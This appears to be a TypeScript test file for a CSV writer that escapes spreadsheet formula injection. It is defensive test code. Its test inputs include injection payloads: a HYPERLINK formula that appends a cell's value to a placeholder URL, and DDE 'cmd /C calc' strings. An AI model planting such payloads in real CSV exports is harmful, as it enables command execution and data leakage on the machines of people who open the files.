import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvCell, csvDocument, recordsToCsv } from './csv';

/** What a spreadsheet would run, from the cases reported and OWASP's list. */
const dangerous = [
  '=HYPERLINK("http://x/"&B1,"a")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '=cmd|"/C calc"!A0',
];

const readBack = (csv: string): string[][] => {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return parse(csv.slice(1), { relax_column_count: false });
};

describe('the CSV writer', () => {
  it('neutralises every cell a spreadsheet would run as a formula, and keeps its text', () => {
    const [header, ...rows] = readBack(
      csvDocument(
        ['값'],
        dangerous.map((d) => [d]),
      ),
    );
    expect(header).toEqual(['값']);
    expect(rows.map(([cell]) => cell)).toEqual(dangerous.map((d) => `'${d}`));
  });

  it('reads back every text exactly, prefixed only where it could start a formula', () => {
    const text = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', 'a', '가', "'"),
    });
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 2 }), { maxLength: 5 }), (rows) => {
        const [, ...back] = readBack(csvDocument(['a', 'b'], rows));
        expect(back).toEqual(rows.map((row) => row.map((v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v))));
        for (const cell of back.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });

  it('keeps numbers as numbers, a negative one too', () => {
    expect(csvCell(-1500)).toBe('-1500');
    expect(csvCell('-1500')).toBe("'-1500");
    expect(csvCell(null)).toBe('');
  });

  it('writes records with nested fields as dotted columns, every value neutralised', () => {
    const csv = recordsToCsv([
      { id: 1, name: dangerous[0], business: { name: dangerous[1] }, roles: ['Admin', '=1'] },
      { id: 2, name: '보통 이름', extra: '+x' },
    ]);
    expect(readBack(csv)).toEqual([
      ['id', 'name', 'business.name', 'roles', 'extra'],
      ['1', `'${dangerous[0]}`, `'${dangerous[1]}`, 'Admin, =1', ''],
      ['2', '보통 이름', '', '', "'+x"],
    ]);
  });
});
